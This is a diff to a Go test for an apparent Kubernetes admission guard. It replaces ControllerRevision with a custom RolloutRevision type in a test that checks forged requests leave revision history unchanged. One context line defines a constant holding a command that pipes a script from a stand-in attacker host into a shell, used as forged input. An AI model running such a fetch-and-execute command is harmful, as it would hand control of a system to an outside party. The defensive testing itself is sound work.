@@ -10,10 +10,11 @@ import (
 	"testing"
 	"time"
 
+	rgv1alpha1 "github.com/rollout-guard/rollout-guard/api/v1alpha1"
+
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 	admissionv1 "k8s.io/api/admission/v1"
-	appsv1 "k8s.io/api/apps/v1"
 	authenticationv1 "k8s.io/api/authentication/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
@@ -38,7 +39,7 @@ const attackerCommand = "curl -s http://attacker.invalid/x | sh"
 // command, forged stamps and authors, a made-up resourceVersion, a
 // made-up restart, an override attempt, a CREATE carrying the live
 // object's identity, all with dryRun false — and checks that none of them
-// creates or changes a ControllerRevision, that history reads the same
+// creates or changes a RolloutRevision, that history reads the same
 // before and after, and that the guard counts each one it could tell by
 // why (rollout_guard_unverified_requests_total) and logs where it came
 // from. Then a genuine edit through the API server records as it always
@@ -157,7 +158,7 @@ func TestForgedRequestsStraightToTheGuardRecordNothing(t *testing.T) {
 			require.NotNil(t, answer.Response, "%s", body)
 			assert.Equal(t, tc.wantAllowed, answer.Response.Allowed, "%s", body)
 
-			assert.Equal(t, before, recordsIn(t, w.Namespace), "a ControllerRevision was created or changed")
+			assert.Equal(t, before, recordsIn(t, w.Namespace), "a RolloutRevision was created or changed")
 			now := unverifiedCounts(t, token)
 			if tc.wantReason != "" {
 				counted[tc.wantReason]++
@@ -195,11 +196,11 @@ func TestForgedRequestsStraightToTheGuardRecordNothing(t *testing.T) {
 	assert.Equal(t, stamps.Revision+1, env.Stamps(t, w.KCP).Revision)
 }
 
-// recordsIn returns every ControllerRevision of namespace as name →
+// recordsIn returns every RolloutRevision of namespace as name →
 // resourceVersion and data, to compare before and after.
 func recordsIn(t *testing.T, namespace string) map[string]string {
 	t.Helper()
-	list := &appsv1.ControllerRevisionList{}
+	list := &rgv1alpha1.RolloutRevisionList{}
 	require.NoError(t, env.Client.List(t.Context(), list, client.InNamespace(namespace)))
 	out := map[string]string{}
 	for _, cr := range list.Items {
